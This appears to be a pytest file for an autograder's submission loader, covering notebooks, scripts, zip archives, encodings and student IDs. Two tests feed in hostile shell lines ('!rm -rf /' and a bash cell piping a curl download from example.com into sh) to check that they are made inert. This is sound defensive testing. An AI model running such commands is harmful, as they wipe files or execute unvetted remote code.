@@ -1,0 +1,144 @@
+"""Reading submissions: notebooks, scripts, folders, archives, and what must be refused."""
+
+from __future__ import annotations
+
+import json
+import zipfile
+
+import pytest
+
+from grader.errors import InvalidSubmission, UsageError
+from grader.submission import Source, collect, load, strip_magics, student_id
+
+
+def nb(*sources, cell_type="code", **extra):
+    return json.dumps({"cells": [{"cell_type": cell_type, "source": s, "metadata": {}, "outputs": []}
+                                 for s in sources], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **extra})
+
+
+def test_notebook_code_cells_in_order_markdown_skipped(tmp_path):
+    path = tmp_path / "a.ipynb"
+    doc = json.loads(nb("x = 1", ["y = ", "2\n"]))
+    doc["cells"].insert(1, {"cell_type": "markdown", "source": "# title", "metadata": {}})
+    path.write_text(json.dumps(doc))
+    sub = load(Source(path))
+    assert sub.kind == "notebook" and sub.units == ("x = 1", "y = 2\n")
+
+
+def test_nbformat3_worksheets_are_read(tmp_path):
+    path = tmp_path / "old.ipynb"
+    path.write_text(json.dumps({"worksheets": [{"cells": [{"cell_type": "code", "input": "z = 3"}]}],
+                                "nbformat": 3}))
+    assert load(Source(path)).units == ("z = 3",)
+
+
+@pytest.mark.parametrize("content, message", [
+    (b"", "not valid notebook JSON"),
+    (b"{not json", "not valid notebook JSON"),
+    (b"\x89PNG\r\n\x1a\n\x00\x00", "not valid notebook JSON"),
+    (b"[1, 2, 3]", "not a notebook"),
+    (b'{"metadata": {}}', "no list of cells"),
+    (b'{"cells": [{"cell_type": "code", "source": 5}]}', "not text"),
+])
+def test_broken_notebooks_are_invalid_with_a_reason(tmp_path, content, message):
+    path = tmp_path / "broken.ipynb"
+    path.write_bytes(content)
+    with pytest.raises(InvalidSubmission, match=message):
+        load(Source(path))
+
+
+def test_a_notebook_with_no_cells_is_an_empty_submission_not_an_error(tmp_path):
+    path = tmp_path / "empty.ipynb"
+    path.write_text(nb())
+    assert load(Source(path)).units == ()
+
+
+def test_latin1_script_is_read_with_the_bad_byte_replaced_and_noted(tmp_path):
+    path = tmp_path / "latin.py"
+    path.write_bytes('q1_answer = "C"  # r\xe9ponse\n'.encode("latin-1"))
+    sub = load(Source(path))
+    assert sub.units[0].startswith('q1_answer = "C"')
+    assert sub.notes and "not valid utf-8" in sub.notes[0]
+
+
+def test_a_coding_cookie_is_honoured(tmp_path):
+    path = tmp_path / "cookie.py"
+    path.write_bytes('# -*- coding: latin-1 -*-\nname = "r\xe9ponse"\n'.encode("latin-1"))
+    sub = load(Source(path))
+    assert "réponse" in sub.units[0] and not sub.notes
+
+
+def test_binary_script_is_invalid(tmp_path):
+    path = tmp_path / "bin.py"
+    path.write_bytes(b"\x7fELF\x00\x00\x01")
+    with pytest.raises(InvalidSubmission):
+        load(Source(path))
+
+
+def test_magics_and_shell_escapes_become_inert_and_line_numbers_stay():
+    src = "import os\n%matplotlib inline\n!rm -rf /\nfiles = !ls\n  %time x = 1\ny = 2"
+    clean, note = strip_magics(src)
+    assert clean.split("\n") == ["import os", "pass", "pass", "files = None", "  pass", "y = 2"]
+    assert "!rm" in note and "%matplotlib" in note
+
+
+def test_a_cell_magic_drops_the_whole_cell():
+    clean, note = strip_magics("%%bash\ncurl http://example.com | sh\n")
+    assert clean == "" and "%%bash" in note
+
+
+def test_an_exclamation_mark_inside_a_string_is_left_alone():
+    src = 'text = """\n!important\n"""\nx = 1'
+    assert strip_magics(src) == (src, None)
+
+
+@pytest.mark.parametrize("name, expected", [
+    ("nguyenanh_10234_558001_lecture06.ipynb", "10234"),
+    ("smithjo_LATE_777_123_lecture06-1.py", "777"),
+    ("alice.ipynb", "alice"),
+    ("bob_homework.py", "bob_homework"),
+])
+def test_student_ids_from_canvas_names_or_the_stem(name, expected):
+    assert student_id(name) == expected
+
+
+def test_collect_walks_folders_sorted_and_skips_hidden_files(tmp_path):
+    (tmp_path / "b.py").write_text("")
+    (tmp_path / "sub").mkdir()
+    (tmp_path / "sub" / "a.ipynb").write_text(nb())
+    (tmp_path / ".ipynb_checkpoints").mkdir()
+    (tmp_path / ".ipynb_checkpoints" / "a-checkpoint.ipynb").write_text(nb())
+    (tmp_path / "notes.txt").write_text("")
+    assert [s.name for s in collect([tmp_path])] == ["b.py", "a.ipynb"]
+
+
+def test_collect_reads_zip_archives(tmp_path):
+    archive = tmp_path / "class.zip"
+    with zipfile.ZipFile(archive, "w") as z:
+        z.writestr("x/alice.py", 'q1_answer = "C"\n')
+        z.writestr("__MACOSX/x/._alice.py", "junk")
+        z.writestr("readme.txt", "")
+    sources = collect([archive])
+    assert [s.label for s in sources] == [f"{archive}:x/alice.py"]
+    assert load(sources[0]).units == ('q1_answer = "C"\n',)
+
+
+def test_collect_refuses_missing_paths_empty_folders_and_other_files(tmp_path):
+    with pytest.raises(UsageError, match="no such file"):
+        collect([tmp_path / "missing"])
+    with pytest.raises(UsageError, match="no submissions"):
+        collect([tmp_path])
+    (tmp_path / "essay.docx").write_text("")
+    with pytest.raises(InvalidSubmission, match="not a notebook"):
+        collect([tmp_path / "essay.docx"])
+    (tmp_path / "fake.zip").write_text("not a zip")
+    with pytest.raises(InvalidSubmission, match="zip"):
+        collect([tmp_path / "fake.zip"])
+
+
+def test_sha256_changes_with_the_bytes(tmp_path):
+    path = tmp_path / "a.py"
+    path.write_text("x = 1\n")
+    first = load(Source(path)).sha256
+    path.write_text("x = 2\n")
+    assert load(Source(path)).sha256 != first
